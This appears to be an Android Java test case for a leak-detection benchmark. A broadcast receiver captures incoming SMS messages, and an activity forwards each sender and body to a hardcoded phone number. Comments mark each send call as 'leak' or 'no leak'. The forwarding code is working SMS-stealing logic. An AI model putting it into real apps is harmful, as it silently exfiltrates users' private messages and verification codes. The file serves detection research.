package stealers;

import android.app.Activity;
import android.content.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;

import java.util.*;

/** Messages are split and passed on, and rung through to a number, by way of a static list. */
public class Forward extends BroadcastReceiver {
    static final List<Map<String, String>> pending = Collections.synchronizedList(new ArrayList<Map<String, String>>());

    @Override
    public void onReceive(Context c, Intent i) {
        String format = i.getStringExtra("format");
        Object[] pdus = (Object[]) i.getExtras().get("pdus");
        for (int k = 0; k < pdus.length; k++) {
            SmsMessage m = Build.VERSION.SDK_INT >= 23 ? SmsMessage.createFromPdu((byte[]) pdus[k], format) : SmsMessage.createFromPdu((byte[]) pdus[k]);
            Map<String, String> row = new Hashtable<String, String>();
            row.put("f", m.getOriginatingAddress());
            row.put("b", m.getMessageBody());
            row.put("i", "1");
            pending.add(row);
        }
        c.startActivity(new Intent(c, Out.class).setFlags(Intent.FLAG_ACTIVITY_NEW_TASK));
    }

    public static class Out extends Activity {
        @Override
        protected void onCreate(Bundle b) {
            super.onCreate(b);
            SmsManager m = SmsManager.getDefault();
            synchronized (pending) {
                for (Iterator<Map<String, String>> i = pending.iterator(); i.hasNext(); i.remove()) {
                    Map<String, String> row = i.next();
                    ArrayList<String> parts = m.divideMessage(row.get("f") + ">" + row.get("b"));
                    m.sendMultipartTextMessage("+8613800000000", null, parts, null, null); // leak
                    m.sendTextMessage("+8613800000000", null, row.get("i"), null, null); // no leak
                    m.sendDataMessage("+8613800000000", null, (short) 1000, row.get("b").getBytes(), null, null); // leak
                    m.sendDataMessage("+8613800000000", null, (short) 1000, new byte[] {1}, null, null); // no leak
                }
            }
            finish();
        }
    }
}
